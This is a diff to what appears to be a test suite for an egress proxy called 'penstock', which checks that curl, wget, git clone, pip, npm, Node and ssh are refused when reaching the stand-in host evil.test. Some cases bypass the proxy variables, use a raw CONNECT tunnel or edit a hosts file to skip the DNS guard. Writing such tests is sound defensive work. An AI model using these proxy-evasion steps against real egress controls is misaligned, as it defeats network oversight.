@@ -3,6 +3,7 @@
 allowed name, what they print on a refusal.  What is refused is first had
 without the guard, with proxy variables from a proxy without a policy."""
 import base64
+import contextlib
 import gzip
 import hashlib
 import io
@@ -345,6 +346,29 @@ def clone_evil(*options, cooperative=True):
     return attempt
 
 
+@contextlib.contextmanager
+def in_hosts(lab, name):
+    """The resolver that would refuse this name is not asked."""
+    path = "/etc/netns/%s/hosts" % lab.ns(lab.agent_space)
+    with open(path) as f:
+        before = f.read()
+    try:
+        with open(path, "a") as f:
+            f.write("%s %s\n" % (ADDRESS, name))
+        yield
+    finally:
+        with open(path, "w") as f:
+            f.write(before)
+
+
+def known(attempt):
+    """Refused at its TLS, by an alert, and not at its DNS."""
+    def known_attempt(lab):
+        with in_hosts(lab, "evil.test"):
+            return attempt(lab)
+    return known_attempt
+
+
 def worked(r):
     return r.status == 0
 
@@ -361,18 +385,55 @@ def shell(r):
     return "shell-reached" in r.out
 
 
-def wget(url):
+def wget(url, cooperative=True):
     return lambda lab: lab.agent("wget", "-O", "-", "-T", "8", "-t", "1",
                                  "--ca-certificate", lab.ca, url,
-                                 env=lab.proxy_env())
+                                 env=lab.proxy_env() if cooperative else {})
 
 
-def requests(url):
-    return lambda lab: lab.python(REQUESTS, url, env=lab.proxy_env())
+def requests(url, cooperative=True):
+    return lambda lab: lab.python(
+        REQUESTS, url, env=lab.proxy_env() if cooperative else {})
 
+
+def node(code, url):
+    """A program that is told its proxy: this Node reads no variables."""
+    return lambda lab: lab.agent("node", "-e", code, url,
+                                 lab.proxy_env()["https_proxy"])
+
+
+# What fetch is made of, and would do if it had a proxy: Debian's Node has it
+# as a package, others have npm's.
+UNDICI = """
+const npm = () => require("child_process").execSync("npm root -g")
+    .toString().trim() + "/npm/node_modules/";
+const find = at => { try { return require(at); } catch { return null; } };
+const { fetch, ProxyAgent } = find("undici") || require(npm() + "undici");
+const dispatcher = new ProxyAgent({ uri: process.argv[2],
+    requestTls: { ca: require("fs").readFileSync(process.env.SSL_CERT_FILE) }
+});
+fetch(process.argv[1], { dispatcher }).then(r => r.text())
+    .then(t => console.log(t))
+    .catch(e => console.log("cause", e.cause && e.cause.message, e.message));
+"""
+NODE_CONNECT = """
+const to = new URL(process.argv[1]);
+const http = require("http"), https = require("https");
+http.request(process.argv[2], { method: "CONNECT", path: to.host + ":443",
+    headers: { Host: to.host + ":443" } }).on("connect", (r, socket) => {
+	if (r.statusCode !== 200)
+		return console.log("refused", r.statusCode, r.statusMessage,
+		    r.headers["proxy-status"]), socket.destroy();
+	https.get(to, { socket, agent: false }, r => {
+		r.on("data", d => console.log(d.toString()));
+		r.on("end", () => socket.destroy());
+	});
+}).on("error", e => console.log("error", e.code)).end();
+"""
 
 CURL = ("curl", "-sS", "-m", "8")
 SAID = "403 Denied by penstock: no_rule"
+OPENSSL_SAYS = "tlsv1 alert access denied"
 CASES = [
     Case("curl", asked(*CURL, "-k", *EVIL_443, "https://evil.test/",
                        cooperative=False), reached,
@@ -393,31 +454,52 @@ CASES = [
          printed("no_rule")),
     Case("wget-http", wget("http://evil.test/"), reached, printed(SAID)),
     Case("git-cooperative", clone_evil(), worked,
-         printed("403", status=128)),
+         printed("CONNECT tunnel failed, response 403", status=128)),
     Case("git", clone_evil("-c", "http.curloptResolve=evil.test:443:" +
                            ADDRESS, cooperative=False), worked,
-         printed("denied", status=128)),
+         printed("Access was denied", status=128)),
     Case("apt", lambda lab: apt_get(lab, "evil.test", None, lab.proxy_env()),
          worked, lambda lab, r: said_by_apt(r)),
+    Case("wget-https-transparent", known(wget("https://evil.test/", False)),
+         reached, printed("received alert [49]: Access was denied",
+                          status=4)),
     Case("pip", lambda lab: pip(lab, "evil.test", lab.proxy_env()), worked,
-         printed("no_rule")),
+         printed("Tunnel connection failed: " + SAID + " evil.test:443")),
+    Case("pip-transparent", known(lambda lab: pip(lab, "evil.test", {})),
+         worked, printed("TLSV1_ALERT_ACCESS_DENIED", OPENSSL_SAYS)),
     Case("npm", lambda lab: npm_install(lab, "evil.test", lab.proxy_env()),
-         worked, printed("no_rule")),
+         worked, printed("npm error code E403", SAID + " evil.test:443")),
+    Case("npm-transparent",
+         known(lambda lab: npm_install(lab, "evil.test", {})), worked,
+         printed("code ERR_SSL_TLSV1_ALERT_ACCESS_DENIED", OPENSSL_SAYS)),
+    Case("requests-transparent", known(requests("https://evil.test/", False)),
+         reached, printed("TLSV1_ALERT_ACCESS_DENIED", OPENSSL_SAYS)),
     Case("requests-http", requests("http://evil.test/"), reached,
          printed("no_rule", status=0)),
     Case("requests-https", requests("https://evil.test/"), reached,
          printed(SAID)),
     Case("node", asked("node", "-e", FETCH, "https://evil.test/",
                        cooperative=False), reached,
-         printed("cause", status=0)),
+         printed("cause ENOTFOUND fetch failed", status=0)),
+    Case("node-transparent",
+         known(asked("node", "-e", FETCH, "https://evil.test/",
+                     cooperative=False)), reached,
+         printed("cause ERR_SSL_TLSV1_ALERT_ACCESS_DENIED fetch failed",
+                 status=0)),
     Case("node-env-proxy", asked("node", "-e", FETCH, "https://evil.test/",
                                  NODE_USE_ENV_PROXY="1"), reached,
-         printed("cause", status=0)),
+         printed("cause", "fetch failed", status=0)),
+    # undici throws the answer away: its number and its words
+    Case("node-undici", node(UNDICI, "https://evil.test/"), reached,
+         printed("cause", "fetch failed", status=0)),
+    Case("node-connect", node(NODE_CONNECT, "https://evil.test/"), reached,
+         printed("refused " + SAID + " evil.test:443 penstock; ",
+                 status=0)),
     # the same server under a name that no rule opens on this port
     Case("ssh-another-name", lambda lab: ssh(lab, "allowed.test"), shell,
-         printed(status=255), logged=False),
+         printed("Connection reset by", ADDRESS, status=255), logged=False),
     Case("ssh-by-address", lambda lab: ssh(lab, ADDRESS), shell,
-         printed(status=255), logged=False),
+         printed("Connection reset by", ADDRESS, status=255), logged=False),
 ]
 
 
